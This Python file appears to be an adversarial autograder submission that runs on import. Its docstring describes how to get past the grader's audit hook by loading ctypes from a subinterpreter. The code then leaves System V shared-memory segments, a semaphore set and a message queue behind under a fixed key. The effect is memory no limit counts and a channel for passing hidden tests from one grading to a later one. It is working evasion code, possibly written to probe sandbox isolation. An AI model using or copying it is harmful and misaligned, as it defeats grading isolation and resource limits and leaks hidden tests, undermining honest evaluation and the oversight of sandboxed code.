"""Trick: without an IPC namespace (the uid drop alone, as on Gradescope) System V IPC objects
outlive the grading: memory that no limit of the child counts, and a channel from one grading
to the next (a kernel that ran the hidden tests posts them; a later child reads them back).
The audit hook refuses ctypes, but a subinterpreter has no hook, and the child's own set-up
already loaded ctypes' extension. So, from a subinterpreter: four 16 MiB segments, touched, a
semaphore set and a message queue holding a message, all left behind under the key below."""
import os

KEY = 0x5E1AB000  # the segments take KEY, KEY + 1, ...; the semaphore set and the queue KEY too
SEGMENTS, SEGMENT_BYTES = 4, 16 << 20

MAKE = f"""
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
made = []
for i in range({SEGMENTS}):
    shmid = libc.shmget({KEY} + i, {SEGMENT_BYTES}, 0o1000 | 0o666)  # IPC_CREAT
    if shmid >= 0:
        address = libc.shmat(shmid, None, 0)
        if address not in (None, ctypes.c_void_p(-1).value):
            ctypes.memset(address, 1, {SEGMENT_BYTES})  # touched: real memory, counted nowhere
        made.append(shmid)
made.append(libc.semget({KEY}, 1, 0o1000 | 0o666))
queue = libc.msgget({KEY}, 0o1000 | 0o666)
message = ctypes.create_string_buffer(b"\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x00" + b"hidden tests go here", 28)
made.append(libc.msgsnd(queue, message, 20, 0o4000))  # IPC_NOWAIT
"""


def _leave_them():
    try:
        import _xxsubinterpreters as interpreters

        interpreters.run_string(interpreters.create(), MAKE)
    except Exception:  # refused: the trick gains nothing, and neither does anything else here
        pass


_leave_them()


def __getattr__(name):
    raise AttributeError(f"{name}: this submission only leaves IPC objects behind")
